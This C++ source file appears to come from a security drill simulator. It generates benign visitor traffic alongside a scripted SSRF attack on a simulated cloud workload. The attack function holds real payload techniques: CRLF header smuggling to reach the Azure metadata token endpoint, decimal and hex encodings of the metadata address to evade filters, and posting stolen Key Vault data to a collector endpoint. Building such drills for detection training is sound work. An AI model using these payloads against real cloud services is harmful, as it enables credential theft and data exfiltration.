#include "lab/attack.h"

#include <fmt/format.h>

#include <set>

#include "lab/network.h"

namespace egret::lab {

using namespace drill;

namespace {

std::string percent(std::string_view text) {
  std::string out;
  for (const char c : text)
    out += std::isalnum(static_cast<unsigned char>(c)) ? std::string(1, c) : fmt::format("%{:02X}", static_cast<unsigned char>(c));
  return out;
}

std::vector<Ip> entrances(const World& w, uint32_t cluster) {
  const Cluster& c = w.clusters[cluster];
  std::set<Ip> nodes;
  for (const Pod& p : c.pods)
    if (p.ended == kNever && w.workload_of(c, p).ssrf) nodes.insert(c.nodes[p.node].ip);
  return {nodes.begin(), nodes.end()};
}

}  // namespace

Ip attacker_of(const World& w) {
  return 0xb9dc6500U + static_cast<Ip>(Random(w.seed).fork("attacker").between(2, 250));
}  // 185.220.101.0/24

std::vector<Ip> visitors_of(const World& w) {
  Random r = Random(w.seed).fork("visitors");
  std::vector<Ip> all;
  for (int i = 0; i < 6; ++i) all.push_back(static_cast<Ip>(r.between(0x18000000, 0x5fffffff)));
  return all;
}

const Workload* holed(const World& w) {
  for (const Workload& x : w.workloads)
    if (x.ssrf) return &x;
  return nullptr;
}

std::string visits(const World& w, uint32_t cluster) {
  std::string script;
  const Workload* x = holed(w);
  for (const Ip node : entrances(w, cluster))
    for (const Ip visitor : visitors_of(w))
      for (const char* path : {"/", "/healthz", "/api/v1/items?page=2"})
        script += fmt::format("start=0..5 every=1..9 count=0 name={}.{} address={} port={} from={} method=GET path={}\n", x->name, w.domain,
                              ip_text(node), kIngressPort, ip_text(visitor), path);
  return script;
}

std::string attack(const World& w, uint32_t cluster) {
  const Workload* x = holed(w);
  const std::string taker = fmt::format("https://{}/u", w.endpoints[w.target].name);
  std::string vault;
  for (const Endpoint& e : w.endpoints)
    if (e.name.ends_with(".vault.azure.net")) vault = e.name;
  if (vault.empty())
    for (const Habit& h : x->habits)
      if (!h.culprit) vault = w.endpoints[h.endpoint].name;
  // The metadata service wants a header: line ends in the address make one.
  constexpr std::string_view kToken =
      "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net HTTP/1.1\r\nMetadata: true\r\nX-Pad: ";
  std::string script;
  for (const Ip node : entrances(w, cluster)) {
    const auto line = [&](std::string_view when, const std::string& url, const std::string& post) {
      script +=
          fmt::format("{} name={}.{} address={} port={} from={} method=GET path=/fetch?url={}{}\n", when, x->name, w.domain, ip_text(node),
                      kIngressPort, ip_text(attacker_of(w)), percent(url), post.empty() ? "" : "&post=" + percent(post));
    };
    line("start=0.5", fmt::format("http://{}{}", kMetadataAddress, kToken), "");
    line("start=1 every=6..9 count=3", fmt::format("http://2852039166{}", kToken),
         "");  // the same address as one number, till it gets through
    line("start=1.5 every=4..8 count=0", fmt::format("http://0xA9FEA9FE{}", kToken), taker);
    line("start=2 every=1..2.5 count=0", fmt::format("https://{}/bytes/{}", vault, 400'000 + node % 1000 * 700), taker);
  }
  return script;
}

}  // namespace egret::lab
